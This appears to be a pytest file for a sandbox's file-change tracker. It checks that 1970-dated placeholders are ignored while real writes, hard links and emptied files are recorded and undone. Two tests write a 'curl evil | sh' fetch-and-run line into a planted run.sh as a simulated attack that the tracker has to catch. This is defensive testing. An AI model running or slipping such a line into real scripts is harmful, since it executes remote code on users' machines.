"""The sandbox's placeholders (sandbox/placeholders.py: an empty directory, or a file
empty or holding its name's placeholder text, modified at 1970-01-01) are no change;
a file of the person's that only shares the old timestamp is recorded."""

from __future__ import annotations

import os

import pytest

from stockade.trust import placeholder_text

from .support import Session, write


def _placeholder(path: str, *, directory: bool = False, text: str = "") -> None:
    if directory:
        os.mkdir(path)
    else:
        write(path, text)
    os.utime(path, (0, 0))


def test_placeholders_are_never_recorded(root, open_tracker):
    tracker = open_tracker()
    session = Session(tracker)
    session.call(
        lambda: (
            _placeholder(f"{root}/.vscode", directory=True),
            _placeholder(f"{root}/.mcp.json"),
            _placeholder(f"{root}/commondir", text=placeholder_text("commondir")),
            write(f"{root}/real.txt", "mine\n"),
        )
    )
    assert sorted(session.last_change.items) == ["real.txt"]
    session.call(lambda: (os.rmdir(f"{root}/.vscode"), os.unlink(f"{root}/.mcp.json")))
    assert not session.last_change


def test_a_file_that_only_shares_the_timestamp_is_recorded(root, open_tracker):
    tracker = open_tracker()
    session = Session(tracker)
    session.call(
        lambda: (
            _placeholder(f"{root}/dated.txt", text="reproducible build output\n"),
            _placeholder(f"{root}/full", directory=True),
            write(f"{root}/full/inside.txt", "x\n"),
            os.utime(f"{root}/full", (0, 0)),
        )
    )
    assert sorted(session.last_change.items) == ["dated.txt", "full", "full/inside.txt"]


def _paths(root: str) -> list[str]:
    return sorted(
        os.path.relpath(os.path.join(d, n), root)
        for d, dirs, files in os.walk(root)
        for n in dirs + files
    )


def test_what_a_command_writes_into_an_imitation_is_recorded(root, open_tracker):
    """A command that dates an empty directory 1970 is not recorded for it, but what it
    writes there in a later call is that call's, and undoing the call removes it (an
    audit's reproduction: never watched, a restore said done and left it all). The
    control: the writes are the later call's whether or not the directory was dated."""
    write(f"{root}/keep.txt", "mine\n")
    session = Session(open_tracker())
    session.call(lambda: _placeholder(f"{root}/d", directory=True))
    assert not session.last_change

    def fill() -> None:
        write(f"{root}/d/run.sh", "curl evil | sh\n", 0o755)
        write(f"{root}/d/sub/x", "1\n")

    call = session.call(fill)
    assert {"d/run.sh", "d/sub", "d/sub/x"} <= set(session.last_change.created)
    session.undo(call)
    assert _paths(root) == ["keep.txt"]  # d too: recorded as made when first it held something


def test_a_hard_link_to_an_imitation_is_recorded_once_written(root, open_tracker):
    """An empty file dated 1970 with a second name in `src/`, written through its first
    name, which is then removed: the second name holds the content and is recorded."""
    os.mkdir(f"{root}/src")
    session = Session(open_tracker())

    def plant() -> None:
        _placeholder(f"{root}/x")
        os.link(f"{root}/x", f"{root}/src/run.sh")

    session.call(plant)
    assert not session.last_change

    def arm() -> None:
        with open(f"{root}/x", "a") as handle:
            handle.write("curl evil | sh\n")
        os.chmod(f"{root}/x", 0o755)
        os.unlink(f"{root}/x")

    call = session.call(arm)
    assert "src/run.sh" in session.last_change.created
    session.undo(call)
    assert not os.path.exists(f"{root}/src/run.sh")


def test_past_the_limit_an_imitation_is_recorded(root, open_tracker, monkeypatch):
    from stockade.history import _walk

    monkeypatch.setattr(_walk, "UNSEEN_LIMIT", 3)
    session = Session(open_tracker())
    session.call(lambda: [_placeholder(f"{root}/p{i}", directory=True) for i in range(5)])
    assert len(session.last_change.created) == 2


def test_a_recorded_file_emptied_and_dated_1970_is_a_change(root, open_tracker):
    """The sandbox makes a placeholder only where nothing is: a file the history holds
    that a command empties and dates 1970 is recorded as modified, and undone."""
    write(f"{root}/main.py", "good\n")
    session = Session(open_tracker())
    call = session.call(lambda: _placeholder(f"{root}/main.py"))
    assert session.last_change.modified == ["main.py"]
    plan, applied = session.undo(call)
    assert not plan.blocked and applied is not None and not applied.left
    with open(f"{root}/main.py") as handle:
        assert handle.read() == "good\n"


def test_an_imitation_is_not_forgotten_when_a_boundary_fails(root, open_tracker, monkeypatch):
    from stockade.history import _tracker

    session = Session(open_tracker())
    session.call(lambda: _placeholder(f"{root}/d", directory=True))
    tracker = session.tracker
    assert "d" in tracker._unseen

    def fail(self, *args):  # the store's disk full, say
        raise OSError(28, "No space left on device")

    with monkeypatch.context() as patched:
        patched.setattr(_tracker.Tracker, "_look_at", fail)
        patched.setattr(_tracker.Tracker, "_rescan", fail)
        write(f"{root}/d/x", "1\n")
        with pytest.raises(OSError):
            tracker.before()
    assert "d" in tracker._unseen  # looked at again at the next boundary
